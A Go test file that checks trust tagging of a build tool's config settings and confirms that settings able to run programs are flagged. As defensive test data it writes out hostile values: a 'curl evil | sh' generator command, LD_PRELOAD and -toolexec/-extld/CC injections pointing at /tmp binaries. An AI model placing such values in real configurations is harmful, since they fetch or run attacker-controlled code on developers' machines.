package config

import (
	"reflect"
	"slices"
	"testing"
)

// Every setting of Config and Generate has a trust class: its trust tag is
// "safe" or "program".
func TestEverySettingHasTrustClass(t *testing.T) {
	for _, typ := range []reflect.Type{reflect.TypeFor[Config](), reflect.TypeFor[Generate]()} {
		for f := range typ.Fields() {
			if tomlKey(f) == "" {
				continue
			}
			if trust := f.Tag.Get("trust"); trust != "safe" && trust != "program" {
				t.Errorf("%s.%s: trust tag %q, want \"safe\" or \"program\"", typ.Name(), f.Name, trust)
			}
		}
	}
}

// A field without a trust tag is a program setting: the check fails closed.
func TestTrustFailsClosed(t *testing.T) {
	type settings struct {
		Safe   string `toml:"safe" trust:"safe"`
		New    string `toml:"new"`
		Typo   string `toml:"typo" trust:"safe "`
		Hidden string `toml:"-"`
	}
	if got, want := programFields(reflect.TypeFor[settings]()), []string{"new", "typo"}; !slices.Equal(got, want) {
		t.Errorf("programFields = %q, want %q", got, want)
	}
}

// The program settings are these: moving one out of the list is a change
// to the trust model, made here on purpose.
func TestProgramKeys(t *testing.T) {
	want := []string{"bin", "build_cmd", "build_env", "build_flags", "env", "env_files", "generate", "go_generate", "ldflags", "path_map"}
	got := slices.Sorted(slices.Values(programKeys))
	if !slices.Equal(got, want) {
		t.Errorf("program settings %q, want %q", got, want)
	}
}

func TestProgramSettings(t *testing.T) {
	for _, tc := range []struct {
		name     string
		settings map[string]any
		want     []string
	}{
		{"none", nil, nil},
		{"harmless", map[string]any{"addr": "127.0.0.1:0", "tags": []string{"dev"}, "args": []string{"-v"}, "kill_timeout": "2s"}, nil},
		// Debug mode runs the dlv found on PATH or in GOBIN, never a program the settings name.
		{"debug mode", map[string]any{"debug": true, "debug_wait": true}, nil},
		{"toolexec", map[string]any{"build_flags": []string{"-toolexec=/tmp/x"}}, []string{"build_flags"}},
		{"every key", map[string]any{"build_flags": []string{"-race"}, "ldflags": "-extld=/tmp/x", "build_env": []string{"CC=/tmp/x"}, "env": []string{"LD_PRELOAD=/tmp/x.so"}}, []string{"build_env", "build_flags", "env", "ldflags"}},
		{"other case", map[string]any{"Build_Flags": []string{"-exec=/tmp/x"}, "BUILD_ENV": []string{"GOFLAGS=-toolexec=/tmp/x"}}, []string{"build_env", "build_flags"}},
		{"empty list", map[string]any{"env": []string{}}, []string{"env"}},
		{"generators and commands", map[string]any{"generate": []map[string]any{{"run": "sh -c 'curl evil | sh'"}}, "build_cmd": "make", "bin": "x", "go_generate": true, "env_files": []string{"/tmp/evil.env"}}, []string{"bin", "build_cmd", "env_files", "generate", "go_generate"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ProgramSettings(tc.settings)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("ProgramSettings(%v) = %q, want %q", tc.settings, got, tc.want)
			}
		})
	}
	if _, err := ProgramSettings(map[string]any{"build_flags": 3}); err == nil {
		t.Error("ProgramSettings accepted build_flags = 3")
	}
}
